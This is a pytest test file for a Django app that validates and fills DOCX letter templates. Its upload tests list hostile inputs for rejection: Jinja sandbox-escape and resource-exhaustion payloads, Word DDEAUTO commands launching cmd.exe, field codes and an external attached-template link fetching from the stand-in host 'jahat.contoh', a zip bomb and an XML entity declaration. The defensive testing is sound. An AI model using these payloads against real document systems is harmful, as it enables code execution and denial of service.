"""Templates of letters: what may be uploaded, what is said of a broken one, what is filled in."""

import io
import zipfile

import docx
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Pt

from klaster.access import Role
from partners import letter_filling
from partners.actions import letter_templates as actions
from partners.letter_fields import example
from partners.letter_files import MOST_BYTES
from partners.models import LetterKind, LetterTemplate
from tests.factories import person
from tests.partners.letters import edited, headers, read, saved, staff, upload, with_part

RELS = "word/_rels/document.xml.rels"


def refusal(content):
    with pytest.raises(ValidationError) as refused:
        letter_filling.check(content)
    return " ".join(refused.value.messages)


def filled(content, **values):
    return read(letter_filling.fill(content, {**example(), **values}))


# the packaged ones


@pytest.mark.parametrize("kind", LetterKind.values)
def test_packaged_template_passes_its_own_check(kind):
    letter_filling.check(letter_filling.packaged(kind))


@pytest.mark.parametrize("kind", LetterKind.values)
def test_packaged_template_carries_letterhead_number_text_and_signatory(kind):
    text = "\n".join(filled(letter_filling.packaged(kind)))

    office = example()["mitra"].upper() if kind == LetterKind.RECOMMENDATION else "DINAS PEMBERDAYAAN MASYARAKAT DAN DESA"
    words = [office, "400.10/123/PMD/2026", "Alinea pertama.", "Nama Contoh, S.Sos., M.Si."]
    assert [word for word in words if word not in text] == []


def test_packaged_recommendation_names_the_office_that_signs_and_nowhere_dinas_pmd():
    lines = filled(letter_filling.packaged("umk"), mitra="Dinas Contoh", jabatan_penanda_tangan="Kepala Dinas Contoh")

    assert ("DINAS CONTOH" in lines, "pemberdayaan" in "\n".join(lines).lower()) == (True, False)


def test_packaged_letter_leaves_only_empty_space_for_the_signature():
    lines = filled(letter_filling.packaged("request"))

    position = lines.index("Kepala Dinas,")
    assert lines[position : position + 6] == ["Kepala Dinas,", "", "", "", "", "Nama Contoh, S.Sos., M.Si."]


@pytest.mark.parametrize("kind", LetterKind.values)
def test_packaged_letter_holds_no_picture_and_no_word_of_an_electronic_signature(kind):
    content = letter_filling.packaged(kind)

    with zipfile.ZipFile(io.BytesIO(content)) as package:
        pictures = [name for name in package.namelist() if "media/" in name]
    text = "\n".join(read(content)).lower()
    assert (pictures, "elektronik" in text, "ditandatangani" in text) == ([], False, False)


def test_packaged_note_has_the_usual_head():
    lines = filled(letter_filling.packaged("note"))

    named = [line for line in lines if line in {"Kepada", "Dari", "Tembusan", "Tanggal", "Nomor", "Sifat", "Lampiran", "Hal"}]
    assert named == ["Kepada", "Dari", "Tembusan", "Tanggal", "Nomor", "Sifat", "Lampiran", "Hal"]


def test_packaged_minutes_say_when_nobody_and_nothing_is_recorded():
    lines = filled(letter_filling.packaged("minutes"), hadir=[], tindak_lanjut=[])

    assert ("Daftar hadir belum dicatat." in lines, "Tidak ada rencana tindak lanjut yang dicatat." in lines) == (True, True)


# what is filled in


def test_each_line_of_the_text_is_a_paragraph():
    lines = filled(letter_filling.packaged("request"), isi="Satu.\r\n\r\nDua.\nTiga.")

    position = lines.index("Satu.")
    assert lines[position : position + 3] == ["Satu.", "Dua.", "Tiga."]


@pytest.mark.parametrize("text", ["<&> \"dua\" 'satu'", "=SUM(A1)", "{{ nomor }} {% for a in b %}", "]]>", "Rp1.000 & <w:t>"])
def test_signs_of_xml_and_of_templates_in_values_stay_text(text):
    assert text in filled(letter_filling.packaged("request"), isi=text)


def test_nul_and_other_signs_that_no_document_holds_are_left_out():
    assert "Satu dua" in filled(letter_filling.packaged("request"), isi="Sa\0tu\x0b\x07 d\ud800ua\uffff")


def test_very_long_text_is_filled_in_whole():
    lines = filled(letter_filling.packaged("request"), isi="\n".join(f"Alinea {number}." for number in range(1500)))

    assert [line for line in lines if line.startswith("Alinea ")] == [f"Alinea {number}." for number in range(1500)]


def test_lines_of_an_address_stay_lines():
    assert "Yth. Kepala\nDinas" in filled(letter_filling.packaged("request"), kepada="Kepala\nDinas")


def test_words_on_top_stand_on_every_page_even_without_a_header_in_the_template():
    content = letter_filling.fill(letter_filling.packaged("request"), example(), words="BELUM")

    assert headers(content) == ["BELUM"]


def test_words_on_top_stand_on_first_and_even_pages_and_in_each_section():
    document = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    document.settings.odd_and_even_pages_header_footer = True
    document.sections[0].different_first_page_header_footer = True
    document.sections[0].header.paragraphs[0].text = "Kop {{ hal }}"
    document.add_section().header.is_linked_to_previous = False

    result = docx.Document(io.BytesIO(letter_filling.fill(saved(document), example(), words="BELUM")))

    first, second = result.sections
    found = [first.header, first.first_page_header, first.even_page_header, second.header]
    assert [header.paragraphs[0].text for header in found] == ["BELUM"] * 4
    assert first.header.paragraphs[1].text == f"Kop {example()['hal']}"


def test_words_on_top_are_seen_where_the_template_hides_its_text():
    document = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    for style in document.styles:
        if style.type == WD_STYLE_TYPE.PARAGRAPH:
            style.font.hidden = True
            style.element.get_or_add_rPr().append(parse_xml(f"<w:webHidden {nsdecls('w')}/>"))
            style.element.get_or_add_pPr().append(parse_xml(f'<w:spacing {nsdecls("w")} w:line="1" w:lineRule="exact"/>'))

    result = docx.Document(io.BytesIO(letter_filling.fill(saved(document), example(), words="BELUM")))

    line = result.sections[0].header.paragraphs[0]
    (run,) = line.runs
    seen = [run.font.hidden, run.font.size, line.paragraph_format.line_spacing]
    assert (run.text, seen) == ("BELUM", [False, Pt(10), 1.0])


def test_field_split_over_runs_by_word_is_filled():
    document = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    paragraph = document.add_paragraph()
    for piece in ("Perihal: {", "{ h", "al }", "}"):
        paragraph.add_run(piece).bold = piece != "al }"

    assert f"Perihal: {example()['hal']}" in filled(saved(document))


# what is refused at upload


def test_unknown_field_is_named_with_its_paragraph():
    words = refusal(edited("Perihal {{ nmr_surat }} tersebut"))

    assert ("nmr_surat" in words, "Perihal {{ nmr_surat }} tersebut" in words) == (True, True)


def test_every_unknown_field_is_named_at_once():
    words = refusal(edited("{{ satu }}", "{{ dua }}"))

    assert ("satu" in words, "dua" in words) == (True, True)


def test_unknown_field_in_a_header_is_named():
    document = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    document.sections[0].header.paragraphs[0].text = "{{ alamat_kantor }}"

    assert "alamat_kantor" in refusal(saved(document))


def test_unknown_field_of_a_list_is_named():
    rows = [("{%tr for b in hadir %}", ""), ("{{ b.nama }}", "{{ b.umur }}"), ("{%tr endfor %}", "")]

    assert "b.umur" in refusal(edited(table=rows))


def test_tag_that_is_not_closed_is_named_by_its_paragraph():
    assert "Nomor: {{ nomor }" in refusal(edited("Nomor: {{ nomor }"))


@pytest.mark.parametrize(
    "text",
    [
        "{{ nomor | }}",
        "{{ }}",
        "{% if tempat %}",
        "{% endfor %}",
        "{%p for b in hadir %}",
        "{{ hal hal }}",
        "{{p isi }}",
        "{{r isi }}",
        "{%tc if hal %}",
        "{% colspan 3 %}",
        "{%if hal%}",
        "{# lupa ditutup",
    ],
)
def test_broken_tag_is_refused(text):
    assert refusal(edited(text)) != ""


@pytest.mark.parametrize(
    "text",
    [
        "{{ isi.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ isi['__class__'] }}",
        "{{ isi.format(isi) }}",
        "{{ self }}",
        "{{ range(1000000000) }}",
        "{{ 9**9**9 }}",
        "{{ 'a' * 1000000000 }}",
        "{{ isi | attr('__class__') }}",
        "{{ isi | safe }}",
        "{{ lipsum() }}",
        "{{ cycler.__init__ }}",
        "{% set a = 1 %}",
        "{% macro a() %}{% endmacro %}",
        "{% include 'x' %}",
        "{% for a in range(9999999) %}{% endfor %}",
        "{% for a in hadir %}{% for b in hadir %}x{% endfor %}{% endfor %}",
        "{% for a in hadir recursive %}{% endfor %}",
        "{% for hal in hadir %}{% endfor %}",
        "{% for a in kunjungan %}{% endfor %}",
        "{{ hadir }}",
        "{{ a.nama }}",
        "{{ hal if hal is defined }}",
        "{{ " + "(" * 3000 + "hal" + ")" * 3000 + " }}",
    ],
)
def test_more_than_fields_loops_and_conditions_is_refused(text):
    assert refusal(edited(text)) != ""


def test_tag_that_opens_in_one_paragraph_and_closes_in_another_is_refused():
    """docxtpl would mend the document silently, and lose text."""
    assert "{%p" in refusal(edited("Satu {% for b in hadir %} dua", table=[("tiga {% endfor %} empat",)]))


def test_many_tags_are_refused():
    assert "400" in refusal(edited(*["{{ hal }}"] * 500))


def test_letter_that_would_become_too_long_is_refused():
    rows = [("{%tr for b in hadir %}",), ("{{ b.nama }}" + "x" * 30_000,), ("{%tr endfor %}",)]
    line = example()["hadir"][0]

    with pytest.raises(ValidationError, match="too long|terlalu panjang"):
        letter_filling.fill(edited(table=rows), {**example(), "hadir": [line] * 300})


def test_properties_of_the_document_are_not_run():
    document = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    document.core_properties.title = "{{ 9**9**9 }}"

    letter_filling.check(saved(document))


@pytest.mark.parametrize(
    "content", [b"", b"bukan docx", b"%PDF-1.4", b"PK\x03\x04rusak", b"\0" * 500], ids=["empty", "text", "pdf", "cut", "nul"]
)
def test_file_that_is_no_docx_is_refused(content):
    assert "DOCX" in refusal(content)


def test_zip_without_a_document_is_refused():
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as package:
        package.writestr("xl/workbook.xml", "<a/>")

    assert "DOCX" in refusal(result.getvalue())


def test_document_that_unpacks_to_much_is_refused():
    bomb = with_part(letter_filling.packaged("request"), "word/media/bomb.bin", b"\0" * 31_000_000)

    assert len(bomb) < MOST_BYTES
    assert refusal(bomb) != ""


def test_document_with_much_xml_is_refused():
    assert refusal(with_part(letter_filling.packaged("request"), "word/notes.xml", b"<a>" + b" " * 2_100_000 + b"</a>")) != ""


def test_document_with_much_text_is_refused_quickly():
    assert refusal(edited("x" * 410_000)) != ""


def test_file_over_the_limit_is_refused():
    assert "MB" in refusal(b"\0" * (MOST_BYTES + 1))


def test_cut_document_is_refused():
    assert refusal(letter_filling.packaged("request")[:-2000]) != ""


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "word/vbaData.xml", "word/embeddings/oleObject1.bin", "word/activeX/a.xml"]
)
def test_macros_and_embedded_objects_are_refused(name):
    assert refusal(with_part(letter_filling.packaged("request"), f"word/{name}", b"<a/>")) != ""


def test_external_relationship_is_refused_and_named():
    with zipfile.ZipFile(io.BytesIO(letter_filling.packaged("request"))) as package:
        rels = package.read(RELS).decode()
    outside = (
        '<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://jahat.contoh/a.dotm" TargetMode="External"/>'
    )
    content = with_part(
        letter_filling.packaged("request"), RELS, rels.replace("</Relationships>", outside + "</Relationships>")
    )

    assert "http://jahat.contoh/a.dotm" in refusal(content)


def with_runs(*runs, where="body"):
    """The packaged template with a paragraph of these runs, in its text or its header."""
    document = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    owner = document if where == "body" else document.sections[0].header
    paragraph = owner.add_paragraph()
    for run in runs:
        paragraph._p.append(parse_xml(f"<w:r {nsdecls('w')}>{run}</w:r>"))
    return saved(document)


def coded(*pieces):
    """The runs of a field with this code, as Word writes them."""
    marks = [f'<w:fldChar w:fldCharType="{mark}"/>' for mark in ("begin", "separate", "end")]
    return [marks[0], *(f'<w:instrText xml:space="preserve">{piece}</w:instrText>' for piece in pieces), *marks[1:]]


@pytest.mark.parametrize("where", ["body", "header"])
@pytest.mark.parametrize(
    "pieces",
    [
        [r'DDEAUTO c:\\cmd.exe "/k calc.exe"'],
        [r'dde excel "x"'],
        [" INCLUDE", 'PICTURE "http://jahat.contoh/x.png" '],
        ["I", "M", "PORT x"],
        [r'INCLUDETEXT "\\\\jahat\\x"'],
        ["LINK Excel.Sheet.8 x"],
        ["DATABASE x"],
        ["MACROBUTTON x klik"],
    ],
)
def test_code_of_word_that_fetches_or_runs_is_refused_and_named(pieces, where):
    assert "".join(pieces).split()[0].upper() in refusal(with_runs(*coded(*pieces), where=where))


def test_code_inside_another_or_over_paragraphs_or_in_short_form_is_refused():
    nested = ['<w:fldChar w:fldCharType="begin"/>', "<w:instrText> QUOTE </w:instrText>", *coded("DDEAUTO x y")]
    document = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    runs = coded("DDE", "AUTO x y")
    for part in (runs[:2], runs[2:]):
        paragraph = document.add_paragraph()
        for run in part:
            paragraph._p.append(parse_xml(f"<w:r {nsdecls('w')}>{run}</w:r>"))
    short = docx.Document(io.BytesIO(letter_filling.packaged("request")))
    short.add_paragraph()._p.append(parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr=" DDEAUTO x y"/>'))

    for content in (with_runs(*nested, '<w:fldChar w:fldCharType="end"/>'), saved(document), saved(short)):
        assert "DDEAUTO" in refusal(content)


def test_number_of_the_page_and_the_day_may_stand_in_a_template():
    letter_filling.check(
        with_runs(*coded(" PAGE "), *coded(" NUM", "PAGES "), *coded(r' DATE \@ "d MMMM yyyy" '), where="header")
    )


def test_part_of_another_kind_in_the_document_is_refused():
    packaged = letter_filling.packaged("request")
    with zipfile.ZipFile(io.BytesIO(packaged)) as package:
        rels, body = package.read(RELS).decode(), package.read("word/document.xml").decode()
    chunk = '<Relationship Id="rId99" Type="http://x/relationships/aFChunk" Target="chunk.rtf"/></Relationships>'
    pulled = '<w:altChunk xmlns:r="http://x" r:id="rId99"/></w:body>'

    for name, data in (
        (RELS, rels.replace("</Relationships>", chunk)),
        ("word/document.xml", body.replace("</w:body>", pulled)),
    ):
        words = refusal(with_part(packaged, name, data))
        assert any(said in words for said in ("another file inside", "berkas lain di dalamnya"))


@pytest.mark.parametrize("name", ["word/endnotes.xml", "word/kop.bin"])
def test_code_in_any_part_is_refused_whatever_the_part_is_called(name):
    part = f"\ufeff<w:endnotes {nsdecls('w')}><w:instrText>DDEAUTO x</w:instrText></w:endnotes>"

    for encoding in ("utf-8", "utf-16-le"):
        assert "DDEAUTO" in refusal(with_part(letter_filling.packaged("request"), name, part.encode(encoding)))


def test_code_that_a_field_of_the_template_would_write_is_refused():
    for pieces in (['{{ "DDEAUTO" }} x'], ["{", '{ "DDE" }', "} x"], ["DD{# x #}EAUTO x"]):
        assert refusal(with_runs(*coded(*pieces))) != ""
    begin, end = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>')
    assert refusal(with_runs(begin, "<w:t>{{ hal }}</w:t>", end)) != ""


def test_field_of_the_template_may_stand_in_the_result_of_a_code():
    runs = coded(" QUOTE x ")
    letter_filling.check(with_runs(*runs[:-1], "<w:t>{{ hal }}</w:t>", runs[-1]))


def test_entities_are_not_resolved():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol">]><w:document xmlns:w="http://x"><w:body>&b;</w:body></w:document>'
    )

    assert refusal(with_part(letter_filling.packaged("request"), "word/document.xml", bomb)) != ""


# which one is in use


@pytest.mark.django_db
def test_packaged_template_is_in_use_until_one_is_uploaded():
    assert actions.current("note") == (None, letter_filling.packaged("note"))


@pytest.mark.django_db
def test_uploaded_template_is_in_use_and_the_earlier_one_stays():
    by = staff()
    first = actions.upload(kind="note", file=upload(edited("Satu", kind="note")), by=by)
    second = actions.upload(kind="note", file=upload(edited("Dua", kind="note")), by=by)

    assert [t.pk for t in LetterTemplate.objects.filter(kind="note", is_current=True)] == [second.pk]
    assert (actions.current("note")[0], "Dua" in read(actions.current("note")[1])) == (second, True)
    assert first.file.storage.exists(first.file.name)


@pytest.mark.django_db
def test_refused_template_leaves_the_current_one():
    by = staff()
    first = actions.upload(kind="note", file=upload(edited("Satu")), by=by)

    with pytest.raises(ValidationError):
        actions.upload(kind="note", file=upload(edited("{{ salah }}")), by=by)

    assert [t.pk for t in LetterTemplate.objects.filter(is_current=True)] == [first.pk]


@pytest.mark.django_db
def test_office_goes_back_to_the_packaged_template():
    by = staff()
    actions.upload(kind="note", file=upload(edited("Satu")), by=by)

    actions.use_packaged(kind="note", by=by)

    assert (actions.current("note")[0], LetterTemplate.objects.count()) == (None, 1)


@pytest.mark.django_db
def test_missing_file_of_a_template_is_said():
    template = actions.upload(kind="note", file=upload(edited("Satu")), by=staff())
    template.file.storage.delete(template.file.name)

    with pytest.raises(ValidationError):
        actions.current("note")


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.HEAD, Role.DEPUTY])
def test_only_those_who_coordinate_upload_templates(role):
    with pytest.raises(PermissionDenied):
        actions.upload(kind="note", file=upload(edited("Satu")), by=person(role))
